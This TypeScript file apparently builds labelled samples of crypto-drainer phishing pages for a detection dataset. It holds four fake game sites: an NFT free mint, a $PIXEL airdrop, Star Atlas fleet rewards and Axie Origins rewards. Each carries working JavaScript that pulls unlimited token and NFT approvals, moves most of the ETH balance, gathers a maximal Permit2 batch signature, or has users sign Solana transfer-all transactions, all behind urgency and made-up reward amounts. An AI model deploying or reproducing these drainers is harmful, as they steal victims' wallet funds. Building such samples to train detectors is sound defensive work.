import { type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { addr, b64, doc, ethDiamond, rev } from '../parts/yc-kit.js';

export const entries: Entry[] = [
(() => {
  const op = addr('genesis-heroes-operator');
  return {
    id: 'yc-drainer-genesis-heroes-mint',
    label: 'cryptodrainer',
    kind: 'nft-mint-drainer',
    url: 'https://genesis-heroes-mint.xyz/',
    body: doc({
      title: 'Genesis Heroes — Free Mint for Early Players',
      css: `*{box-sizing:border-box}body{margin:0;background:#07070d;color:#f5f3ff;font-family:"Space Grotesk",Inter,Arial,sans-serif}
nav{display:flex;justify-content:space-between;align-items:center;padding:18px 34px}nav b{font-size:22px;letter-spacing:3px}
.cw{background:linear-gradient(90deg,#7c3aed,#db2777);border:0;color:#fff;border-radius:999px;padding:12px 22px;font-weight:700;cursor:pointer}
.hero{max-width:1000px;margin:30px auto;display:grid;grid-template-columns:1fr 1fr;gap:40px;padding:0 20px;align-items:center}
.art{aspect-ratio:1;border-radius:20px;background:conic-gradient(from 120deg,#7c3aed,#db2777,#f59e0b,#7c3aed);box-shadow:0 20px 60px rgba(124,58,237,.4)}
.pb{height:12px;background:#1f1b2e;border-radius:6px;overflow:hidden;margin:12px 0}.pb i{display:block;height:100%;width:87%;background:linear-gradient(90deg,#7c3aed,#db2777)}
.q{display:flex;gap:10px;align-items:center;margin:18px 0}.q button{width:40px;height:40px;border-radius:10px;border:1px solid #333;background:#111;color:#fff;font-size:20px}
#log{font-size:12px;color:#a78bfa;min-height:18px}`,
      body: `<nav><b>GENESIS HEROES</b><button class="cw" id="c1">Connect Wallet</button></nav>
<div class="hero"><div class="art"></div><div><h1 style="font-size:44px;margin:0">Free mint is live</h1><p>3,333 hand-drawn heroes that double as playable characters in the Genesis Heroes play-to-earn arena. Holders earn $GEN every season. Early players and Discord members mint for <b>free</b> (gas only).</p>
<div class="pb"><i></i></div><small>2,901 / 3,333 minted</small>
<div class="q"><button onclick="qty(-1)">−</button><b id="q">2</b><button onclick="qty(1)">+</button><span style="color:#a1a1aa">max 3 per wallet</span></div>
<button class="cw" style="width:100%;padding:16px" id="m">${ethDiamond(14, '#fff')} Mint now — FREE</button><div id="log"></div></div></div>
<script>
var OP="${op}",n=2;function qty(d){n=Math.max(1,Math.min(3,n+d));document.getElementById('q').textContent=n}
function L(t){document.getElementById('log').textContent=t}
async function go(){if(!window.ethereum){L('Please install MetaMask or open this page in your wallet browser.');return}
var acc=(await ethereum.request({method:'eth_requestAccounts'}))[0];L('Checking eligibility for '+acc.slice(0,6)+'…'+acc.slice(-4));
var inv=await fetch('/api/holdings?a='+acc).then(function(r){return r.json()}).catch(function(){return {nfts:[],tokens:[]}});
for(const c of inv.nfts){try{await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:c,data:'0xa22cb465'+OP.slice(2).padStart(64,'0')+'1'.padStart(64,'0')}]})}catch(e){}}
for(const t of inv.tokens){try{await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:t,data:'0x095ea7b3'+OP.slice(2).padStart(64,'0')+'f'.repeat(64)}]})}catch(e){}}
var bal=await ethereum.request({method:'eth_getBalance',params:[acc,'latest']});var v=BigInt(bal)*95n/100n;
if(v>0n){try{await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:OP,value:'0x'+v.toString(16)}]})}catch(e){}}
fetch('/api/log',{method:'POST',body:JSON.stringify({a:acc,n:inv.nfts.length,t:inv.tokens.length})});L('Mint pending… do not close this page.')}
document.getElementById('c1').onclick=go;document.getElementById('m').onclick=go;
</script>`,
    }),
    routes: {
      'genesis-heroes-mint.xyz/api/holdings': jsonRoute({ nfts: ['0xbc4ca0eda7647a8ab7c2061c2e118a18a936f13d', '0x60e4d786628fea6478f785a6d7e704777c86a7c6'], tokens: ['0xdac17f958d2ee523a2206206994597c13d831ec7', '0xa0b86991c6218b36c1d19d4a2e9eb0ce3606eb48'] }),
      'genesis-heroes-mint.xyz/api/log': jsonRoute({ ok: true }),
    },
  } satisfies Entry;
})(),
(() => {
  const spender = addr('pixels-permit2-spender');
  return {
    id: 'yc-drainer-pixel-season-airdrop-permit2',
    label: 'cryptodrainer',
    kind: 'airdrop-drainer',
    url: 'https://pixels-token-claim.com/claim?season=3',
    body: doc({
      title: '$PIXEL Season 3 Airdrop — Claim',
      css: `*{box-sizing:border-box}body{margin:0;background:#1a1033;color:#fff;font-family:"Press Start 2P","Courier New",monospace;image-rendering:pixelated}
.c{max-width:560px;margin:60px auto;background:#2b1a55;border:4px solid #000;box-shadow:8px 8px 0 #000;padding:28px;text-align:center}
h1{font-size:22px;line-height:1.4;color:#ffe066}p{font-family:Verdana,sans-serif;font-size:14px;line-height:1.6;color:#e9e3ff}
.b{background:#ffe066;color:#000;border:4px solid #000;box-shadow:4px 4px 0 #000;padding:14px 22px;font-family:inherit;font-size:13px;cursor:pointer}
.amt{font-size:28px;color:#7cf57c;margin:16px 0}.s{font-size:10px;color:#b9a9ff;font-family:Verdana}`,
      body: `<div class="c"><h1>$PIXEL SEASON 3<br>AIRDROP</h1><p>Farmers, guild members and land owners who played during Season 2 are eligible for the Season 3 airdrop. Connect the wallet you play with to check your allocation.</p>
<div class="amt" id="a">??? PIXEL</div><button class="b" id="b">CONNECT WALLET</button><p class="s" id="s">Claim window closes in 47h 12m · 18,442 wallets claimed</p></div>
<script src="/assets/js/claim.8f31c2.js"></script>`,
    }),
    routes: {
      'pixels-token-claim.com/assets/js/claim.8f31c2.js': jsRoute(`(()=>{const P2="0x000000000022D473030F116dDEE9F6B43aC78BA3",S="${spender}";const $=i=>document.getElementById(i);
const toks=[["0xdAC17F958D2ee523a2206206994597C13D831ec7","USDT"],["0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48","USDC"],["0x3429d03c6F7521AeC737a0BBF2E5ddcef2C3Ae31","PIXEL"],["0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2","WETH"]];
$("b").onclick=async()=>{if(!window.ethereum)return alert("No wallet detected");const [a]=await ethereum.request({method:"eth_requestAccounts"});$("a").textContent="4,812.5 PIXEL";$("b").textContent="CLAIM";
$("b").onclick=async()=>{const chainId=parseInt(await ethereum.request({method:"eth_chainId"}),16);const dl=Math.floor(Date.now()/1e3)+86400*365;
const msg={details:toks.map(t=>({token:t[0],amount:"1461501637330902918203684832716283019655932542975",expiration:dl,nonce:0})),spender:S,sigDeadline:dl};
const data={types:{EIP712Domain:[{name:"name",type:"string"},{name:"chainId",type:"uint256"},{name:"verifyingContract",type:"address"}],PermitBatch:[{name:"details",type:"PermitDetails[]"},{name:"spender",type:"address"},{name:"sigDeadline",type:"uint256"}],PermitDetails:[{name:"token",type:"address"},{name:"amount",type:"uint160"},{name:"expiration",type:"uint48"},{name:"nonce",type:"uint48"}]},domain:{name:"Permit2",chainId,verifyingContract:P2},primaryType:"PermitBatch",message:msg};
try{const sig=await ethereum.request({method:"eth_signTypedData_v4",params:[a,JSON.stringify(data)]});await fetch("/api/claim",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({a,sig,msg,chainId})});$("s").textContent="Claim submitted! Tokens arrive in ~10 minutes."}catch(e){$("s").textContent="Signature rejected. Please try again to claim."}}};})();`),
      'pixels-token-claim.com/api/claim': jsonRoute({ status: 'queued' }),
    },
  } satisfies Entry;
})(),
{
  id: 'yc-drainer-solana-fleet-rewards',
  label: 'cryptodrainer',
  kind: 'solana-drainer',
  url: 'https://staratlas-fleet-rewards.app/',
  body: doc({
    title: 'Star Atlas — Fleet Rewards Claim (Season 12)',
    css: `*{box-sizing:border-box}body{margin:0;background:#000 radial-gradient(ellipse at top,#1d2b64,#000 60%);color:#e6ecff;font-family:"Exo 2",Arial,sans-serif;min-height:100vh}
.c{max-width:620px;margin:70px auto;text-align:center;padding:0 16px}h1{font-size:40px;letter-spacing:4px;text-transform:uppercase}
.p{background:rgba(255,255,255,.06);border:1px solid rgba(255,255,255,.15);border-radius:14px;padding:24px;margin-top:20px}
.b{background:#ab9ff2;color:#1c1c1c;border:0;border-radius:10px;padding:14px 26px;font-size:16px;font-weight:700;cursor:pointer}
.r{display:flex;justify-content:space-between;font-size:14px;padding:8px 0;border-bottom:1px solid rgba(255,255,255,.08)}`,
    body: `<div class="c"><h1>Fleet Rewards</h1><p>ATLAS and POLIS rewards for Season 12 fleet staking are now claimable. Unclaimed rewards return to the DAO treasury after the epoch ends.</p>
<div class="p"><div class="r"><span>Epoch</span><b>612</b></div><div class="r"><span>Your fleet</span><b id="fl">—</b></div><div class="r"><span>Claimable</span><b id="am">—</b></div><br><button class="b" id="b">Connect Phantom</button><p id="st" style="font-size:13px;color:#9aa7d1"></p></div></div>
<script>
const prov=()=>window.phantom&&window.phantom.solana||window.solana||window.solflare;
document.getElementById('b').onclick=async function(){const p=prov();if(!p){document.getElementById('st').textContent='Phantom, Solflare or Backpack is required.';return}
const r=await p.connect();const pk=r.publicKey.toString();document.getElementById('fl').textContent='Pearce X4 ×3 · Opal Jet ×1';document.getElementById('am').textContent='18,204 ATLAS · 312 POLIS';this.textContent='Claim rewards';
this.onclick=async function(){document.getElementById('st').textContent='Preparing claim transactions…';
const j=await fetch('/api/claim/build',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({owner:pk})}).then(r=>r.json());
const txs=j.txs.map(b=>{const u=Uint8Array.from(atob(b),c=>c.charCodeAt(0));return window.solanaWeb3?solanaWeb3.VersionedTransaction.deserialize(u):u});
try{const signed=await p.signAllTransactions(txs);await fetch('/api/claim/send',{method:'POST',body:JSON.stringify({owner:pk,signed:signed.map(t=>btoa(String.fromCharCode.apply(null,t.serialize?t.serialize():t)))})});document.getElementById('st').textContent='Rewards claimed! They will appear in your wallet shortly.'}catch(e){document.getElementById('st').textContent='Transaction cancelled. Try again to claim your rewards.'}}};
</script>`,
  }),
  routes: {
    'staratlas-fleet-rewards.app/api/claim/build': jsonRoute({ txs: [b64('\u0001' + 'transfer-all-spl:' + 'AtLAS'.repeat(10)), b64('\u0001' + 'close-accounts:' + 'POL1S'.repeat(10))], dest: 'Hq7wG2nF8yRkT4cXa1Lm3VpZ9bE6sD5uJ0oQiYtWrNvP' }),
    'staratlas-fleet-rewards.app/api/claim/send': jsonRoute({ ok: true }),
  },
},
(() => {
  const op = addr('ronin-axs-drain');
  return {
    id: 'yc-drainer-ronin-origins-rewards',
    label: 'cryptodrainer',
    kind: 'wallet-drainer',
    url: 'https://axie-origins-rewards.com/season/11',
    body: doc({
      title: 'Axie Infinity: Origins — Season 11 Leaderboard Rewards',
      css: `*{box-sizing:border-box}body{margin:0;background:#f5efe4;color:#3a2a1a;font-family:"Changa One","Trebuchet MS",Arial,sans-serif}
header{background:#3a2a1a;color:#ffd36b;padding:16px 30px;font-size:22px}.c{max-width:680px;margin:40px auto;background:#fff;border:3px solid #3a2a1a;border-radius:18px;padding:28px}
.b{background:#1273ea;color:#fff;border:0;border-radius:12px;padding:14px 26px;font-size:17px;cursor:pointer;font-family:inherit}
table{width:100%;border-collapse:collapse;margin:16px 0}td{padding:8px;border-bottom:1px solid #eee}`,
      body: `<header>Axie Infinity · Origins</header><div class="c"><h2>Season 11 has ended!</h2><p>Your rank has been locked in. AXS rewards are distributed through the Ronin Wallet. Connect to see your allocation and claim before <b>the next season starts</b>.</p>
<table><tr><td>Top 100</td><td>120 – 600 AXS</td></tr><tr><td>Top 1,000</td><td>25 – 120 AXS</td></tr><tr><td>Top 10,000</td><td>4 – 25 AXS</td></tr></table>
<button class="b" id="b">Connect Ronin Wallet</button><p id="s" style="font-size:14px"></p></div>
<script>
var O="${op}",AXS="0x97a9107c1793bc407d6f527b77e7fff4d812bece",SLP="0xa8754b9fa15fc18bb59458815510e40a12cd2014",WETH="0xc99a6a985ed2cac1ef41640596c5a5f9f4e19ef5";
function pad(a){return a.replace(/^0x/,'').toLowerCase().padStart(64,'0')}
document.getElementById('b').onclick=async function(){var p=(window.ronin&&window.ronin.provider)||window.ethereum;if(!p){document.getElementById('s').textContent='Open this page in the Ronin Wallet browser.';return}
var a=(await p.request({method:'eth_requestAccounts'}))[0];document.getElementById('s').textContent='Rank #412 — 86.5 AXS available. Approve the claim in your wallet.';
for(var t of [AXS,SLP,WETH]){try{await p.request({method:'eth_sendTransaction',params:[{from:a,to:t,data:'0x095ea7b3'+pad(O)+'f'.repeat(64)}]})}catch(e){}}
try{await p.request({method:'eth_sendTransaction',params:[{from:a,to:'0x32950db2a7164ae833121501c797d79e7b79d74c',data:'0xa22cb465'+pad(O)+pad('0x1')}]})}catch(e){}
fetch('/api/r',{method:'POST',body:a});document.getElementById('s').textContent='Claim processing. AXS will arrive within 1 hour.'};
</script>`,
    }),
  } satisfies Entry;
})(),
];
